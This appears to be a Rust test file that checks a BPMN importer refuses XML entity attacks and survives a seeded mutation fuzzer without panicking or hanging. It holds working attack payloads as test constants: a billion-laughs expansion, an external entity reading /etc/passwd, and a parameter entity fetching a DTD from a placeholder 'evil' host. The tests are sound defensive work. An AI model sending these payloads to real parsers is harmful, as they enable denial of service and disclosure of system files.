//! Hostile input: the importer never panics and never hangs, whatever bytes it is given; entity
//! tricks (billion laughs, external entities) are refused. A seeded mutation loop feeds 100,000
//! mutated corpus files (small pieces of them mostly, so the debug build stays near a minute);
//! `FLOWLANE_FUZZ_CASES` and `FLOWLANE_FUZZ_SEED` change the count and the seed.

mod bpmn_corpus;

use std::panic::{catch_unwind, AssertUnwindSafe};
use std::time::{Duration, Instant};

use flowlane::bpmn::{export, import, Target};
use rand::{RngExt, SeedableRng};
use rand_chacha::ChaCha8Rng;
use roxmltree::Document;

/// One input may take this long in a debug build before it counts as a hang.
const PER_INPUT: Duration = Duration::from_secs(2);

const BILLION_LAUGHS: &str = r#"<?xml version="1.0"?>
<!DOCTYPE lolz [
 <!ENTITY lol "lol">
 <!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
 <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
 <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
 <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
 <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
 <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
 <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
 <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d" name="&lol9;"/>"#;

const XXE: &str = r#"<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY secret SYSTEM "file:///etc/passwd">]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d">
  <process id="P"><task id="T" name="&secret;"/></process>
</definitions>"#;

const XXE_PARAMETER: &str = r#"<?xml version="1.0"?>
<!DOCTYPE definitions [<!ENTITY % remote SYSTEM "http://example.invalid/evil.dtd"> %remote;]>
<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" id="d"/>"#;

#[test]
fn entity_attacks_are_refused() {
    for (name, xml) in [
        ("billion laughs", BILLION_LAUGHS),
        ("external entity", XXE),
        ("parameter entity", XXE_PARAMETER),
    ] {
        let started = Instant::now();
        let err = import(xml.as_bytes()).expect_err(name);
        assert_eq!(err.code, "dtd", "{name}: {err}");
        assert!(
            started.elapsed() < PER_INPUT,
            "{name} took {:?}",
            started.elapsed()
        );
    }
    // An entity reference without a declaration is just malformed.
    let undeclared =
        r#"<definitions xmlns="http://www.omg.org/spec/BPMN/20100524/MODEL" name="&secret;"/>"#;
    assert_eq!(import(undeclared.as_bytes()).unwrap_err().code, "not-xml");
}

/// Seeds: whole small files, and single elements of every file (a process, a lane set, a
/// shape, a task) wrapped in a `definitions` that declares the file's namespaces.
fn seeds() -> Vec<Vec<u8>> {
    let mut seeds = Vec::new();
    for (_, bytes) in bpmn_corpus::files() {
        let text = String::from_utf8_lossy(&bytes).into_owned();
        if bytes.len() < 10_000 {
            seeds.push(bytes.clone());
        }
        let Ok(doc) = Document::parse(&text) else {
            continue;
        };
        let root = doc.root_element();
        let declarations: String = root
            .namespaces()
            .map(|ns| match ns.name() {
                Some(prefix) => format!(" xmlns:{prefix}=\"{}\"", ns.uri()),
                None => format!(" xmlns=\"{}\"", ns.uri()),
            })
            .collect();
        let prefix = root.lookup_prefix("http://www.omg.org/spec/BPMN/20100524/MODEL");
        let tag = prefix.map_or("definitions".to_string(), |p| format!("{p}:definitions"));
        for element in root.descendants().filter(|n| n.is_element()).step_by(7) {
            let piece = &text[element.range()];
            if piece.len() > 3_000 || element == root {
                continue;
            }
            seeds.push(format!("<{tag}{declarations} id=\"seed\">{piece}</{tag}>").into_bytes());
        }
    }
    seeds
}

const TOKENS: [&[u8]; 26] = [
    b"<",
    b">",
    b"\"",
    b"&",
    b"&#10;",
    b"&amp;",
    b"]]>",
    b"<!--",
    b"-->",
    b"<![CDATA[x]]>",
    b" xmlns:x=\"urn:x\"",
    b" id=\"dup\"",
    b" sourceRef=\"dup\"",
    b" default=\"dup\"",
    b"<task id=\"dup\"/>",
    b"-1e309",
    b"NaN",
    b"\xEF\xBB\xBF",
    b"\0",
    b"<!DOCTYPE x>",
    b"\xff\xfe",
    b"</",
    b"<a><a><a><a><a><a><a><a><a><a>",
    b" x=\"1.5e3\"",
    b"P1DT",
    b"<?pi x?>",
];

fn mutate(seed: &[u8], rng: &mut ChaCha8Rng) -> Vec<u8> {
    let mut data = seed.to_vec();
    for _ in 0..rng.random_range(1..=4) {
        let len = data.len().max(1);
        let at = rng.random_range(0..len).min(data.len());
        match rng.random_range(0..6) {
            0 if !data.is_empty() => {
                let i = at.min(data.len() - 1);
                data[i] = rng.random();
            }
            1 => {
                let end = (at + rng.random_range(1..=24)).min(data.len());
                data.drain(at..end);
            }
            2 => {
                let end = (at + rng.random_range(1..=64)).min(data.len());
                let piece = data[at..end].to_vec();
                let to = rng.random_range(0..=data.len());
                data.splice(to..to, piece);
            }
            3 => {
                let token = TOKENS[rng.random_range(0..TOKENS.len())];
                data.splice(at..at, token.iter().copied());
            }
            4 => {
                // Point an attribute at another value of the file: ids and references collide.
                let quotes: Vec<usize> = data
                    .windows(2)
                    .enumerate()
                    .filter(|(_, w)| w == b"=\"")
                    .map(|(i, _)| i + 2)
                    .collect();
                if quotes.len() >= 2 {
                    let from = quotes[rng.random_range(0..quotes.len())];
                    let to = quotes[rng.random_range(0..quotes.len())];
                    let value: Vec<u8> = data[from..]
                        .iter()
                        .take_while(|b| **b != b'"')
                        .copied()
                        .collect();
                    let end = data[to..]
                        .iter()
                        .position(|b| *b == b'"')
                        .map_or(to, |p| to + p);
                    data.splice(to..end, value);
                }
            }
            _ => data.truncate(at),
        }
    }
    data
}

#[test]
fn mutated_corpus_files_never_panic_or_hang() {
    let cases: usize = std::env::var("FLOWLANE_FUZZ_CASES")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(100_000);
    let seed: u64 = std::env::var("FLOWLANE_FUZZ_SEED")
        .ok()
        .and_then(|v| v.parse().ok())
        .unwrap_or(9);
    let seeds = seeds();
    assert!(seeds.len() > 500, "{} seeds", seeds.len());
    let workers = 2;
    let started = Instant::now();
    let results: Vec<(usize, usize, Duration)> = std::thread::scope(|scope| {
        let handles: Vec<_> = (0..workers)
            .map(|worker| {
                let seeds = &seeds;
                scope.spawn(move || {
                    let mut rng = ChaCha8Rng::seed_from_u64(seed * 1_000 + worker as u64);
                    let (mut imported, mut slowest) = (0, Duration::ZERO);
                    let mine = cases / workers + usize::from(worker < cases % workers);
                    for case in 0..mine {
                        let input = mutate(&seeds[rng.random_range(0..seeds.len())], &mut rng);
                        let at = Instant::now();
                        let outcome = catch_unwind(AssertUnwindSafe(|| {
                            import(&input).map(|p| {
                                // What imports must export to a file that imports again.
                                let xml = export(&p, Target::Plain).unwrap();
                                import(xml.as_bytes()).map_err(|e| (e, xml))
                            })
                        }));
                        let took = at.elapsed();
                        slowest = slowest.max(took);
                        let keep = || {
                            let path = std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
                                .join(format!("target/bpmn-fuzz-{worker}-{case}.bpmn"));
                            let _ = std::fs::write(&path, &input);
                            path
                        };
                        match outcome {
                            Err(_) => panic!("the importer panicked on {}", keep().display()),
                            Ok(Ok(Err((e, _)))) => {
                                panic!("{} imports but its export does not: {e}", keep().display())
                            }
                            Ok(Ok(Ok(_))) => imported += 1,
                            Ok(Err(_)) => {}
                        }
                        assert!(took < PER_INPUT, "{} took {took:?}", keep().display());
                    }
                    (mine, imported, slowest)
                })
            })
            .collect();
        handles
            .into_iter()
            .map(|h| h.join().expect("worker"))
            .collect()
    });
    let total: usize = results.iter().map(|r| r.0).sum();
    let imported: usize = results.iter().map(|r| r.1).sum();
    let slowest = results.iter().map(|r| r.2).max().unwrap_or_default();
    println!(
        "{total} mutated inputs in {:.1?}: {imported} imported, the rest refused; slowest {slowest:?}",
        started.elapsed()
    );
    assert_eq!(total, cases);
    assert!(
        imported > cases / 20,
        "only {imported} mutants imported: the mutations are too blunt"
    );
}
